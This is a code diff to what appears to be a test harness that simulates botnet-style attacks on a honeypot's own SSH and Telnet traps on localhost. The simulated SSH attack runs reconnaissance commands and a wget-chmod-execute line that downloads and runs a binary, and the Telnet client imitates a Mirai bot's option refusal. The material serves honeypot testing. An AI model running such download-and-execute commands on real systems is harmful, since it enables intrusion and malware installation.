@@ -14,6 +14,7 @@ from __future__ import annotations
 
 import asyncio
 import contextlib
+import re
 import socket
 from pathlib import Path
 from typing import Any
@@ -80,7 +81,11 @@ async def _ssh_attack(port: int, http_port: int, log: Any) -> None:
             "cat /proc/cpuinfo | grep name | wc -l",
             f"cd /tmp && wget http://127.0.0.1:{http_port}/bins/x86 && chmod +x x86 && ./x86",
         ):
-            res = await conn.run(cmd, check=False)
+            # EOF on stdin, as `ssh host cmd < /dev/null`: the trap, like sshd + bash, waits for the input
+            # of a program that may read it (the downloaded ./x86).
+            proc_ = await conn.create_process(cmd)
+            proc_.stdin.write_eof()
+            res = await proc_.wait(check=False, timeout=30)
             log(f"  ssh $ {cmd}\n    " + str(res.stdout).strip().replace("\n", "\n    ")[:300])
         proc = await conn.create_process(term_type="xterm", term_size=(80, 24))
         proc.stdin.write("id; w\nls -la /root\nexit\n")
@@ -99,6 +104,10 @@ async def _telnet_attack(port: int) -> None:
                 if not chunk:
                     return
                 buf += chunk
+                # As a Mirai-style bot: refuse every option (IAC DO x -> WONT x, IAC WILL x -> DONT x).
+                # inetutils-telnetd, and the trap like it, prompts only once its options are answered.
+                answers = re.findall(rb"\xff([\xfb\xfd])(.)", chunk, flags=re.S)
+                writer.write(b"".join(b"\xff" + (b"\xfc" if c == b"\xfd" else b"\xfe") + o for c, o in answers))
 
     try:
         await expect(b"login: ")
